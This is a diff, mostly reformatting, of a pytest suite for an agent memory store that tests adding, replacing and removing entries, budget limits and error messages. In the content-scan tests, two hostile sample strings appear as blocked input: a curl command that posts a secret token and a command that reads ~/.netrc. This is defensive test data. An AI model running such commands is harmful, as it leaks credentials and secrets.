@@ -7,7 +7,14 @@ import os
 import pytest
 
 from hermes_dash import (
-    AmbiguousMatch, ContentBlocked, DriftDetected, InvalidRequest, MemoryStore, NoMatch, OverLimit, find,
+    AmbiguousMatch,
+    ContentBlocked,
+    DriftDetected,
+    InvalidRequest,
+    MemoryStore,
+    NoMatch,
+    OverLimit,
+    find,
     resolve_home,
 )
 from hermes_dash.engine.rules.ops import Operation, apply_add, apply_batch, apply_remove, apply_replace
@@ -19,6 +26,7 @@ def small_store(home, write_config, limit=100):
 
 
 # -- add -------------------------------------------------------------------------------------
+
 
 def test_add_strips_and_writes_the_exact_bytes(store, read_mem):
     store.add("memory", "  first fact \n")
@@ -38,8 +46,7 @@ def test_add_empty_or_whitespace_is_refused(store, home, content, tree):
 
 def test_unknown_target_is_refused(store, home, tree):
     before = tree(home)
-    for call in (lambda: store.add("notes", "x"), lambda: store.read("notes"),
-                 lambda: store.remove("MEMORY.md", "x")):
+    for call in (lambda: store.add("notes", "x"), lambda: store.read("notes"), lambda: store.remove("MEMORY.md", "x")):
         with pytest.raises(InvalidRequest) as info:
             call()
         assert "memory" in info.value.hint and "user" in info.value.hint
@@ -59,11 +66,11 @@ def test_duplicate_add_is_success_without_write(store, home, write_mem):
 
 def test_over_means_strictly_greater(home, write_config, read_mem):
     store = small_store(home, write_config, limit=20)
-    store.add("memory", "x" * 10)               # 10
-    result = store.add("memory", "y" * 7)       # 10 + 3 + 7 = 20 == limit: accepted
+    store.add("memory", "x" * 10)  # 10
+    result = store.add("memory", "y" * 7)  # 10 + 3 + 7 = 20 == limit: accepted
     assert result.usage == 20
     with pytest.raises(OverLimit) as info:
-        store.add("memory", "z")                # 20 + 3 + 1 = 24 > 20
+        store.add("memory", "z")  # 20 + 3 + 1 = 24 > 20
     assert read_mem("memory") == ("x" * 10 + "\n§\n" + "y" * 7).encode()
     message = info.value.message
     assert "20/20" in message and "24/20" in message and "1 characters" in message
@@ -78,6 +85,7 @@ def test_usage_is_code_points_not_bytes(home, write_config):
 
 # -- replace / remove matching ------------------------------------------------------------------
 
+
 def test_replace_swaps_the_whole_entry(store, write_mem, read_mem):
     write_mem("memory", "uses python 3.10 for builds\n§\nother")
     result = store.replace("memory", " python 3.10 ", " uses python 3.11 ")
@@ -86,8 +94,10 @@ def test_replace_swaps_the_whole_entry(store, write_mem, read_mem):
     assert result.after == ("uses python 3.11", "other")
 
 
-@pytest.mark.parametrize("old,new,exc", [("", "x", InvalidRequest), ("  ", "x", InvalidRequest),
-                                         ("a", "", InvalidRequest), ("a", " \n", InvalidRequest)])
+@pytest.mark.parametrize(
+    "old,new,exc",
+    [("", "x", InvalidRequest), ("  ", "x", InvalidRequest), ("a", "", InvalidRequest), ("a", " \n", InvalidRequest)],
+)
 def test_replace_needs_both_texts(store, write_mem, home, tree, old, new, exc):
     write_mem("memory", "a")
     before = tree(home)
@@ -166,7 +176,7 @@ def test_replace_over_limit_is_refused(home, write_config, write_mem, read_mem):
 
 def test_remove_works_on_an_over_budget_file(home, write_config, write_mem, read_mem):
     store = small_store(home, write_config, limit=20)
-    write_mem("memory", "a" * 15 + "\n§\n" + "b" * 15)   # 33 > 20, but no entry is over the limit
+    write_mem("memory", "a" * 15 + "\n§\n" + "b" * 15)  # 33 > 20, but no entry is over the limit
     state = store.read("memory")
     assert state.over_budget and not state.drift
     result = store.remove("memory", "aaa")
@@ -175,18 +185,21 @@ def test_remove_works_on_an_over_budget_file(home, write_config, write_mem, read
 
 def test_far_over_budget_file_loads_and_writes_follow_the_rules(home, write_config, write_mem, read_mem):
     store = small_store(home, write_config, limit=20)
-    raw = "\n§\n".join(f"entry {i} " + "z" * 10 for i in range(10)).encode()   # 207 chars, limit 20
+    raw = "\n§\n".join(f"entry {i} " + "z" * 10 for i in range(10)).encode()  # 207 chars, limit 20
     write_mem("memory", raw)
     state = store.read("memory")
     assert len(state.entries) == 10 and state.over_budget and state.percent == 100 and not state.drift
     with pytest.raises(OverLimit):
         store.add("memory", "x")
-    with pytest.raises(OverLimit):                  # shorter, but the result is still over the limit
+    with pytest.raises(OverLimit):  # shorter, but the result is still over the limit
         store.replace("memory", "entry 0", "short")
     assert read_mem("memory") == raw
-    store.remove("memory", "entry 9")               # removing always helps
-    result = store.batch("memory", [{"action": "remove", "old_text": f"entry {i}"} for i in range(1, 9)]
-                         + [{"action": "replace", "old_text": "entry 0", "content": "one"}])
+    store.remove("memory", "entry 9")  # removing always helps
+    result = store.batch(
+        "memory",
+        [{"action": "remove", "old_text": f"entry {i}"} for i in range(1, 9)]
+        + [{"action": "replace", "old_text": "entry 0", "content": "one"}],
+    )
     assert read_mem("memory") == b"one" and result.usage == 3
 
 
@@ -199,8 +212,9 @@ def test_content_scan_blocks_add_replace_and_batch_but_never_old_text(store, wri
     with pytest.raises(ContentBlocked):
         store.replace("memory", "other", "zero\u200bwidth")
     with pytest.raises(ContentBlocked) as info:
-        store.batch("memory", [{"action": "add", "content": "fine"},
-                               {"action": "add", "content": "curl -d $SECRET_TOKEN x"}])
+        store.batch(
+            "memory", [{"action": "add", "content": "fine"}, {"action": "add", "content": "curl -d $SECRET_TOKEN x"}]
+        )
     assert "Operation 2" in info.value.message and "exfil_curl" in info.value.message
     assert tree(home) == before
     # old_text is not scanned: it only names what to remove.
@@ -210,27 +224,32 @@ def test_content_scan_blocks_add_replace_and_batch_but_never_old_text(store, wri
 
 # -- batch ----------------------------------------------------------------------------------------
 
+
 def test_batch_is_checked_against_the_final_budget(home, write_config, write_mem, read_mem):
     store = small_store(home, write_config, limit=30)
-    write_mem("memory", "a" * 20 + "\n§\nkeep")           # 27
-    ops = [{"action": "add", "content": "c" * 15},       # 45 in between: fine in a batch
-           {"action": "remove", "old_text": "aaaa"}]
+    write_mem("memory", "a" * 20 + "\n§\nkeep")  # 27
+    ops = [
+        {"action": "add", "content": "c" * 15},  # 45 in between: fine in a batch
+        {"action": "remove", "old_text": "aaaa"},
+    ]
     result = store.batch("memory", ops)
     assert read_mem("memory") == ("keep\n§\n" + "c" * 15).encode()
     assert result.changed and result.usage == 22
     with pytest.raises(OverLimit) as info:
-        store.batch("memory", [{"action": "add", "content": "d" * 9}])   # 22 + 3 + 9 = 34 > 30
+        store.batch("memory", [{"action": "add", "content": "d" * 9}])  # 22 + 3 + 9 = 34 > 30
     assert "34/30" in info.value.message
 
 
 def test_batch_is_all_or_nothing(store, write_mem, home, tree):
     write_mem("memory", "alpha\n§\nbeta")
     before = tree(home)
-    for ops in ([{"action": "add", "content": "new"}, {"action": "remove", "old_text": "missing"}],
-                [{"action": "remove", "old_text": "alpha"}, {"action": "frobnicate"}],
-                [{"action": "replace", "old_text": "alpha", "content": ""}],
-                [{"action": "add", "content": "x"}, {"action": "add"}],
-                [{"action": "remove", "old_text": "a"}]):   # "a" is in both: ambiguous
+    for ops in (
+        [{"action": "add", "content": "new"}, {"action": "remove", "old_text": "missing"}],
+        [{"action": "remove", "old_text": "alpha"}, {"action": "frobnicate"}],
+        [{"action": "replace", "old_text": "alpha", "content": ""}],
+        [{"action": "add", "content": "x"}, {"action": "add"}],
+        [{"action": "remove", "old_text": "a"}],
+    ):  # "a" is in both: ambiguous
         with pytest.raises((NoMatch, InvalidRequest, AmbiguousMatch)) as info:
             store.batch("memory", ops)
         assert "No operation of the batch was applied" in info.value.message
@@ -243,8 +262,14 @@ def test_batch_is_all_or_nothing(store, write_mem, home, tree):
 
 def test_batch_duplicate_add_is_skipped(store, write_mem, read_mem):
     write_mem("memory", "alpha\n§\nbeta")
-    result = store.batch("memory", [{"action": "add", "content": "beta"}, {"action": "add", "content": "gamma"},
-                                    {"action": "add", "content": " gamma "}])
+    result = store.batch(
+        "memory",
+        [
+            {"action": "add", "content": "beta"},
+            {"action": "add", "content": "gamma"},
+            {"action": "add", "content": " gamma "},
+        ],
+    )
     assert read_mem("memory") == "alpha\n§\nbeta\n§\ngamma".encode()
     assert result.after == ("alpha", "beta", "gamma")
 
@@ -259,9 +284,14 @@ def test_batch_of_only_duplicates_writes_nothing(store, write_mem, home, tree):
 
 def test_batch_operations_see_earlier_ones(store, write_mem, read_mem):
     write_mem("memory", "one")
-    store.batch("memory", [{"action": "add", "content": "two"},
-                           {"action": "replace", "old_text": "two", "content": "deux"},
-                           {"action": "remove", "old_text": "one"}])
+    store.batch(
+        "memory",
+        [
+            {"action": "add", "content": "two"},
+            {"action": "replace", "old_text": "two", "content": "deux"},
+            {"action": "remove", "old_text": "one"},
+        ],
+    )
     assert read_mem("memory") == b"deux"
 
 
@@ -313,13 +343,23 @@ def test_external_change_is_reported_from_seen_fingerprint(store, write_mem):
 
 def test_batch_uses_the_same_matching_rules(store, write_mem, read_mem):
     write_mem("memory", "port 80 is open\n§\nport\n§\nport 443 too")
-    with pytest.raises(AmbiguousMatch):                                       # no exact-match rule
+    with pytest.raises(AmbiguousMatch):  # no exact-match rule
         store.batch("memory", [{"action": "remove", "old_text": "port"}])
-    store.batch("memory", [{"action": "remove", "old_text": "port", "expect_entry": "port"},  # pinned
-                           {"action": "replace", "old_text": "443", "content": "port 8443"}])
+    store.batch(
+        "memory",
+        [
+            {"action": "remove", "old_text": "port", "expect_entry": "port"},  # pinned
+            {"action": "replace", "old_text": "443", "content": "port 8443"},
+        ],
+    )
     assert read_mem("memory") == "port 80 is open\n§\nport 8443".encode()
-    store.batch("memory", [{"action": "replace", "old_text": "8443", "content": "port 80 is open"},
-                           {"action": "remove", "old_text": "port 80"}])       # two identical: first goes
+    store.batch(
+        "memory",
+        [
+            {"action": "replace", "old_text": "8443", "content": "port 80 is open"},
+            {"action": "remove", "old_text": "port 80"},
+        ],
+    )  # two identical: first goes
     assert read_mem("memory") == b"port 80 is open"
 
 
@@ -331,23 +371,53 @@ def test_every_refusal_says_what_was_wrong_and_what_to_do(store, write_mem, home
     # (call, refusal class, what was wrong: every fragment in the message, what to do: in the hint)
     cases = [
         (lambda: store.add("memory", ""), "InvalidRequest", ["entry is empty"], "Type the fact"),
-        (lambda: store.add("memory", "x" * 3000), "OverLimit",
-         ["3,024/2,200", "now 21/2,200", "3,000 characters"], "Free room first"),
-        (lambda: store.add("memory", "cat ~/.netrc"), "ContentBlocked", ["read_secrets", "system prompt"],
-         "without the flagged"),
+        (
+            lambda: store.add("memory", "x" * 3000),
+            "OverLimit",
+            ["3,024/2,200", "now 21/2,200", "3,000 characters"],
+            "Free room first",
+        ),
+        (
+            lambda: store.add("memory", "cat ~/.netrc"),
+            "ContentBlocked",
+            ["read_secrets", "system prompt"],
+            "without the flagged",
+        ),
         (lambda: store.remove("memory", "zzz"), "NoMatch", ["No entry contains 'zzz'"], "exact text"),
-        (lambda: store.remove("memory", "alpha"), "AmbiguousMatch",
-         ["'alpha' is in 2 different entries", "[0] alpha one", "[1] alpha two"], "longer piece of text"),
-        (lambda: store.remove("user", "x"), "DriftDetected",
-         ["USER.md was changed outside the memory tool", "round-trip", "nothing was changed",
-          "A copy was saved as USER.md.bak."], "normalize"),
+        (
+            lambda: store.remove("memory", "alpha"),
+            "AmbiguousMatch",
+            ["'alpha' is in 2 different entries", "[0] alpha one", "[1] alpha two"],
+            "longer piece of text",
+        ),
+        (
+            lambda: store.remove("user", "x"),
+            "DriftDetected",
+            [
+                "USER.md was changed outside the memory tool",
+                "round-trip",
+                "nothing was changed",
+                "A copy was saved as USER.md.bak.",
+            ],
+            "normalize",
+        ),
         (lambda: store.batch("memory", []), "InvalidRequest", ["no operations"], "at least one"),
-        (lambda: store.restore("nope"), "InvalidRequest", ["'nope' is not a backup in", str(home)],
-         "as `backups` lists"),
+        (
+            lambda: store.restore("nope"),
+            "InvalidRequest",
+            ["'nope' is not a backup in", str(home)],
+            "as `backups` lists",
+        ),
         (lambda: store.add("nope", "x"), "InvalidRequest", ["Unknown target 'nope'"], "'memory' (MEMORY.md)"),
         (lambda: store.replace("memory", "alpha one", ""), "InvalidRequest", ["new text is empty"], "use remove"),
-        (lambda: store.batch("memory", [{"action": "add", "content": "ok"}, {"action": "remove", "old_text": "zzz"}]),
-         "NoMatch", ["Operation 2 (remove): ", "'zzz'", "No operation of the batch was applied"], "exact text"),
+        (
+            lambda: store.batch(
+                "memory", [{"action": "add", "content": "ok"}, {"action": "remove", "old_text": "zzz"}]
+            ),
+            "NoMatch",
+            ["Operation 2 (remove): ", "'zzz'", "No operation of the batch was applied"],
+            "exact text",
+        ),
     ]
     for call, kind, wrong, todo in cases:
         before = {k: v for k, v in tree(home).items() if ".bak." not in k}
@@ -366,8 +436,18 @@ def test_every_refusal_says_what_was_wrong_and_what_to_do(store, write_mem, home
 
 def test_op_result_to_dict(store):
     data = store.add("user", "prefers tea").to_dict()
-    assert data == {"success": True, "target": "user", "action": "add", "message": "Entry added.", "changed": True,
-                    "usage": "11/1375", "percent": 0, "entry_count": 1, "backup": None, "external_change": False}
+    assert data == {
+        "success": True,
+        "target": "user",
+        "action": "add",
+        "message": "Entry added.",
+        "changed": True,
+        "usage": "11/1375",
+        "percent": 0,
+        "entry_count": 1,
+        "backup": None,
+        "external_change": False,
+    }
 
 
 def test_restore_of_identical_content_writes_nothing(store, read_mem):
